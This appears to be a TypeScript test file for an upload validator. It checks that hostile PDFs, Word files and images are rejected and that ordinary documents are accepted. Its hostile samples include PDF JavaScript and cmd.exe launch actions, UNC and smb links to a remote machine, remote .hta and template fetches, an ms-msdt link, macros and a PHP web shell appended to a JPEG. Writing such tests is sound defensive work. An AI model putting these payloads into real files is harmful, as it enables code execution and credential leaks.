import { PDF } from '@libpdf/core';
import sharp from 'sharp';
import { describe, expect, test } from 'vitest';
import { pictureTypeOf } from '#domains/properties/core/picture-content.ts';
import { takePicture } from '#platform/server/files/pictures.ts';
import { judgeDocument } from '#platform/server/uploads/keep-document.ts';
import { buildInquiry } from '../support/builders.ts';
import {
  framed,
  oldWordOf,
  packedWith,
  pdfOf,
  relation,
  type Sample,
  setPdf,
  stream,
  wordOf,
} from '../support/corpus.ts';
import { photo, photoWithPlace, pixelBomb, readablePdf } from '../support/files.ts';
import { testApp } from '../support/test-app.ts';

const latin = (text: string): Buffer => Buffer.from(text, 'latin1');
const action = (text: string) => framed(`/OpenAction << ${text} >>`);
const link = (text: string) =>
  framed('', `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI ${text} >> >>]`);
const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const emptyArchive = latin(`PK\u0005\u0006${'\u0000'.repeat(18)}`);
const external = (type: string, target: string) => () =>
  wordOf({ 'word/_rels/document.xml.rels': relation(type, target) });

const hostileDocuments: readonly Sample[] = [
  ['PDF: script at opening', () => action('/S /JavaScript /JS (app.alert\\(1\\))')],
  ['PDF: script written with #', () => action('/S /Java#53cript /J#53 (x)')],
  ['PDF: script of a page', () => framed('', `/AA << /O ${script} >>`)],
  ['PDF: script by its name', () => framed(`/Names << /JavaScript << /Names [(a) ${script}] >> >>`)],
  [
    'PDF: script of a field',
    () => framed('/AcroForm << /Fields [4 0 R] >>', '', [`<< /FT /Tx /AA << /K ${script} >> >>`]),
  ],
  ['PDF: script in a rendition', () => action('/S /Rendition /JS (this.print\\(\\))')],
  ...(['flate', 'hex', 'a85', 'none', 'lzw', 'predictor', 'ref', 'disguised'] as const).map(
    (how): Sample => [`PDF: script packed with ${how}`, () => packedWith(script, how)],
  ),
  ['PDF: launch packed', () => packedWith('<< /S /Launch /F (cmd.exe) >>', 'flate')],
  ['PDF: launch', () => action('/S /Launch /F (cmd.exe)')],
  ['PDF: launch for Windows', () => action('/S /Launch /Win << /F (calc.exe) >>')],
  ['PDF: launch written with #', () => action('/S /L#61unch /F (cmd.exe)')],
  ['PDF: link to another machine', () => link('/URI (\\\\\\\\10.0.0.1\\\\a)')],
  ['PDF: link to another machine as file', () => link('/URI (file://10.0.0.1/a)')],
  ['PDF: link to another machine, more lines', () => link('/URI (file://///10.0.0.1/a)')],
  ['PDF: link by smb', () => link('/URI (smb://10.0.0.1/a)')],
  ['PDF: link to another machine in hexadecimal', () => link('/URI <5C5C31302E302E302E31>')],
  ['PDF: link to another machine in UTF-16', () => link('/URI <FEFF005C005C0031>')],
  ['PDF: link to another machine, packed', () => packedWith('<< /S /URI /URI (\\\\\\\\10.0.0.1\\\\a) >>', 'hex')],
  ['PDF: goes to a file elsewhere', () => action('/S /GoToR /F (\\\\\\\\10.0.0.1\\\\a.pdf) /D [0 /Fit]')],
  ['PDF: goes to a file inside', () => action('/S /GoToE /T << /R /C /N (a) >>')],
  ['PDF: takes data in', () => action('/S /ImportData /F (a.fdf)')],
  ['PDF: sends a form', () => action('/S /SubmitForm /F (http://a.example)')],
  ['PDF: a file inside', () => framed('', '', [stream('/Type /EmbeddedFile', latin('MZ'))])],
  ['PDF: a form of another kind', () => framed('/AcroForm << /XFA 4 0 R >>', '', [stream('', latin('<xdp/>'))])],
  ['PDF: a film', () => framed('', '/Annots [<< /Subtype /RichMedia /Rect [0 0 9 9] >>]')],
  [
    'PDF: locked',
    () => framed('', '', ['<< /Filter /Standard /V 2 /R 3 /P -44 /O () /U () >>'], { trailer: '/Encrypt 4 0 R' }),
  ],
  ['PDF: locked by a program', () => setPdf((one) => one.text('skrito'), { userPassword: 'a', ownerPassword: 'b' })],
  ['PDF: an archive behind it', () => Buffer.concat([framed(), emptyArchive])],
  ['PDF: its end alone', () => latin('startxref\n9\n%%EOF')],
  ['PDF: its beginning alone', () => latin('%PDF-1.7\n')],
  ['PDF: of no version', () => latin('%PDF-9.9\nstartxref\n9\n%%EOF')],
  ['a page behind the sign of a PDF', () => latin('<html>%PDF-1.7 startxref %%EOF')],
  ['Word: macros', () => wordOf({ 'word/vbaProject.bin': 'x' })],
  ['Word: macros elsewhere', () => wordOf({ 'custom/VBAPROJECT.BIN': 'x' })],
  [
    'Word: macros by their type',
    () => wordOf({}, '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'),
  ],
  [
    'Word: a document for macros',
    () =>
      wordOf({
        '[Content_Types].xml':
          '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
      }),
  ],
  ['Word: a template from elsewhere', external('attachedTemplate', 'http://a.example/a.dotm')],
  ['Word: a template from another machine', external('attachedTemplate', '\\\\10.0.0.1\\a.dotm')],
  ['Word: a picture from elsewhere', external('image', 'http://a.example/a.png')],
  ['Word: an object from elsewhere', external('oleObject', 'http://a.example/a.hta')],
  ['Word: a frame from elsewhere', external('frame', 'http://a.example/')],
  ['Word: a link to another machine', external('hyperlink', '\\\\10.0.0.1\\a')],
  ['Word: a link to another machine as file', external('hyperlink', 'file://10.0.0.1/a')],
  ['Word: a link that runs a tool of Windows', external('hyperlink', 'ms-msdt:/id PCWDiagnostic')],
  ['Word: an object inside', () => wordOf({ 'word/embeddings/oleObject1.bin': 'x' })],
  ['Word: a control inside', () => wordOf({ 'word/activeX/activeX1.xml': '<a/>' })],
  ['Word: a program inside', () => wordOf({ 'word/media/slika.exe': 'MZ' })],
  ['Word: a script inside', () => wordOf({ 'word/a.vbs': 'x' })],
  ['Word: too much when unpacked', () => wordOf({ 'word/media/a.bmp': Buffer.alloc(101_000_000) })],
  [
    'Word: without its document',
    () =>
      wordOf({}).then((whole) => latin(whole.toString('latin1').replaceAll('word/document.xml', 'word/dokument.xml'))),
  ],
  ['Word: cut off', () => wordOf({}).then((whole) => whole.subarray(0, whole.length / 2))],
  ['old Word: macros', () => oldWordOf('Macros', 'VBA', '_VBA_PROJECT')],
  ['old Word: a package inside', () => oldWordOf('ObjectPool', '\u0001Ole10Native')],
  ['an installer', () => latin(`\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1${'\u0000'.repeat(600)}`)],
  ['a program', () => latin('MZ\u0090\u0000')],
  ['a script', () => latin('#!/bin/sh\necho')],
];

const dots = (format: 'jpeg' | 'png' | 'webp') =>
  sharp({ create: { width: 60, height: 40, channels: 3, background: '#8a6' } })
    .toFormat(format)
    .toBuffer();
const behind = (more: Buffer) => async () => Buffer.concat([await dots('jpeg'), more]);
const hostilePictures: readonly Sample[] = [
  ['a page behind a picture', behind(latin('<html><body onload=x>'))],
  ['a script behind a picture', behind(latin('<script>alert(1)</script>'))],
  ['a program of a server behind a picture', behind(latin('<?php system($_GET[0]); ?>'))],
  ['an archive behind a picture', behind(emptyArchive)],
  ['a PDF behind a picture', behind(framed())],
  ['a drawing in text', () => latin('<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>')],
  ['the sign of a JPEG alone', () => Buffer.from([0xff, 0xd8, 0xff, 0xe0])],
  [
    'the sign of a PNG before a page',
    () => Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), latin('<html>zdravo')]),
  ],
  ['a picture of too many dots', pixelBomb],
  ['a GIF', () => latin('GIF89a\u0001\u0000\u0001\u0000')],
];

const pages = (n: number) =>
  setPdf((one) => {
    for (let page = 1; page < n; page += 1) one.addPage().text(`Stran ${page}, JavaScript, /Launch v besedilu`);
  });
const scan =
  (quality: number, n = 1, options = {}) =>
  async () => {
    const page = await sharp(await photo(800, 1_100, quality))
      .jpeg({ quality })
      .toBuffer();
    return setPdf((one) => {
      for (let at = 0; at < n; at += 1) (at ? one.addPage() : one).image(page, 0, 0, { width: 595 });
    }, options);
  };
const signed = (subFilter: string) => () =>
  framed('/AcroForm << /Fields [4 0 R] /SigFlags 3 >>', '/Annots [4 0 R]', [
    '<< /Type /Annot /Subtype /Widget /FT /Sig /T (Podpis) /V 5 0 R /Rect [0 0 0 0] /F 132 /P 3 0 R >>',
    `<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /${subFilter} /ByteRange [0 9 99 9] /Contents <${'3082'.repeat(60)}> /M (D:20260115090000+01'00') >>`,
  ]);
const resaved = (objects: boolean) => async () =>
  Buffer.from(await (await PDF.load(await readablePdf('Zapisnik'))).save({ useXRefStream: objects }));

const harmlessDocuments: readonly Sample[] = [
  ['a PDF behind an empty line', async () => Buffer.concat([latin('\r\n'), await scan(60)()])],
  [
    'Word: with the template of the writer’s office',
    () =>
      wordOf({
        'word/_rels/settings.xml.rels': relation('attachedTemplate', 'file:///C:\\Users\\Ana\\Templates\\Dopis.dotm'),
      }),
  ],
  ...[30, 50, 70, 80, 90].map((quality): Sample => [`a scan of quality ${quality}`, scan(quality)]),
  ...[2, 5, 8].map((n): Sample => [`a scan of ${n} pages`, scan(60, n)]),
  ...(['1.3', '1.4', '1.5', '1.6', '1.7'] as const).map(
    (pdfVersion): Sample => [`a scan as PDF ${pdfVersion}`, scan(60, 1, { pdfVersion })],
  ),
  ['PDF 2.0', () => framed('', '', [], { version: '2.0' })],
  ...[1, 3, 20].map((n): Sample => [`a text of ${n} pages`, () => pages(n)]),
  ['a text with a link', () => setPdf((one) => one.text('GURS', { link: 'https://www.e-prostor.gov.si' }))],
  ['a text with a link to a mail', () => setPdf((one) => one.text('pošta', { link: 'mailto:ana@primer.si' }))],
  ['a link to a file of one’s own machine', () => link('/URI (file:///C:/Dokumenti/a.pdf)')],
  ['a link with a path', () => link('/URI (https://primer.si/a//b\\\\c)')],
  ['a link inside', () => framed('/OpenAction << /S /GoTo /D [3 0 R /Fit] >>')],
  ['a page that opens at its width', () => framed('/OpenAction [3 0 R /FitH 842]')],
  ['a form to fill in', () => framed('/AcroForm << /Fields [4 0 R] >>', '', ['<< /FT /Tx /T (Ime) /V (Ana) >>'])],
  ['a tagged text', () => setPdf((one) => one.text('Označeno'), { tagged: true, lang: 'sl-SI', displayTitle: true })],
  ['an archived text (PDF/A)', () => setPdf((one) => one.text(''), { subset: 'PDF/A-2b', pdfVersion: '1.7' })],
  ['outlines', () => setPdf((one) => void one.outline.addItem('Uvod'))],
  ['a packed dictionary', () => packedWith('<< /Type /Font /BaseFont /JSans >>', 'flate')],
  ['a packed dictionary in hexadecimal', () => packedWith('<< /Type /Font >>', 'hex')],
  ['a packed dictionary in 85 letters', () => packedWith('<< /Type /Font /BaseFont /Arial >>', 'a85')],
  ['saved again', resaved(false)],
  ['saved again with streams of objects', resaved(true)],
  ...['adbe.pkcs7.detached', 'ETSI.CAdES.detached', 'ETSI.RFC3161', 'adbe.pkcs7.sha1'].map(
    (filter): Sample => [`signed: ${filter}`, signed(filter)],
  ),
  [
    'information about it',
    () =>
      pdfOf(
        [
          '<< /Type /Catalog /Pages 2 0 R >>',
          '<< /Type /Pages /Kids [] /Count 0 >>',
          '<< /Title (Gradbeno dovoljenje) /Producer (LibreOffice 24.2) >>',
        ],
        { trailer: '/Info 3 0 R' },
      ),
  ],
  ['lines end as on Windows', () => latin(framed().toString('latin1').replaceAll('\n', '\r\n'))],
  ['something after its end', () => Buffer.concat([framed(), latin('\n\n')])],
  [
    'a scan whose bytes spell short names',
    () =>
      framed('', '', [stream('/Filter /DCTDecode', latin('\u00ff\u00d8/JS(\u0007\u00d1/XFA\u0000\u0080\u00ff\u00d9'))]),
  ],
  ['Word', () => wordOf()],
  ['Word with pictures', async () => wordOf({ 'word/media/image1.jpeg': await photo() })],
  ['Word with a link', external('hyperlink', 'https://www.e-prostor.gov.si/a?b=c')],
  ['Word with a mail', external('hyperlink', 'mailto:ana@primer.si')],
  ['Word with a link to a file of one’s own machine', external('hyperlink', 'file:///C:/Dokumenti/a.docx')],
  [
    'Word with a template of one’s own',
    () => wordOf({ 'word/_rels/settings.xml.rels': relation('attachedTemplate', 'Normal.dotm', '') }),
  ],
  [
    'Word with a chart and its sheet',
    () => wordOf({ 'word/charts/chart1.xml': '<a/>', 'word/embeddings/Microsoft_Excel_Worksheet.xlsx': 'PK' }),
  ],
  ['Word with fonts', () => wordOf({ 'word/fonts/font1.odttf': Buffer.alloc(9_000, 1) })],
  [
    'Word with comments and notes',
    () => wordOf({ 'word/comments.xml': '<a/>', 'word/footnotes.xml': '<a/>', 'word/settings.xml': '<a/>' }),
  ],
  [
    'Word that LibreOffice saved',
    () =>
      wordOf({
        'docProps/app.xml': '<Properties><Application>LibreOffice/24.2</Application></Properties>',
        'word/styles.xml': '<a/>',
      }),
  ],
  ['Word with much white paper', () => wordOf({ 'word/media/image2.bmp': Buffer.alloc(20_000_000, 255) })],
  [
    'Word with a name in the text',
    () =>
      wordOf({ 'word/document.xml': '<w:document>vbaProject.bin, macroEnabled, TargetMode="External"</w:document>' }),
  ],
  ['old Word', () => oldWordOf()],
  ['old Word with pictures', () => oldWordOf('Data', 'ObjectPool')],
];
const harmlessPictures: readonly Sample[] = [
  ...(['jpeg', 'png', 'webp'] as const).map((format): Sample => [`a picture as ${format}`, () => dots(format)]),
  ['a photograph', () => photo(1_600, 1_200)],
  ['a photograph on its side, with its place', photoWithPlace],
  [
    'a progressive photograph',
    async () =>
      sharp(await photo())
        .jpeg({ progressive: true })
        .toBuffer(),
  ],
  [
    'a photograph in shades of grey',
    async () =>
      sharp(await photo())
        .greyscale()
        .jpeg()
        .toBuffer(),
  ],
];

const judge = async (bytes: Buffer) => (await judgeDocument(bytes)).ok;
const judgePicture = async (bytes: Buffer) => pictureTypeOf(bytes).ok && (await takePicture(bytes)).ok;

describe('hostile files are refused', () => {
  test.each(hostileDocuments)('%s', async (_, make) => expect(await judge(await make())).toBe(false));
  test.each(hostilePictures)('%s', async (_, make) => expect(await judgePicture(await make())).toBe(false));
});

describe('files of real life are taken', () => {
  test.each(harmlessDocuments)('%s', async (_, make) => expect(await judge(await make())).toBe(true));
  test.each(harmlessPictures)('%s', async (_, make) => expect(await judgePicture(await make())).toBe(true));
});

test('there are sixty of each', () => {
  expect(hostileDocuments.length + hostilePictures.length).toBeGreaterThanOrEqual(60);
  expect(harmlessDocuments.length + harmlessPictures.length).toBeGreaterThanOrEqual(60);
});

test('a sample of them by the call', async () => {
  const app = await testApp();
  const customer = await app.person();
  const { property_id } = await buildInquiry(app, customer);
  const give = async (bytes: Buffer) =>
    (
      await app.upload(
        '/api/addPropertyDocuments',
        customer,
        { property_id, document_type: 'drugo', document_name: 'Listina' },
        { name: 'listina.pdf', bytes },
      )
    ).body;
  const every = <T>(list: readonly T[], nth: number) => list.filter((_, at) => at % nth === 0);
  for (const [name, make] of every(hostileDocuments, 6)) {
    const { success, error_code } = await give(await make());
    expect([
      name,
      success,
      ['file_type_not_allowed', 'file_corrupt', 'payload_too_large'].includes(error_code),
    ]).toEqual([name, false, true]);
  }
  for (const [name, make] of every(harmlessDocuments, 6))
    expect([name, (await give(await make())).success]).toEqual([name, true]);
});
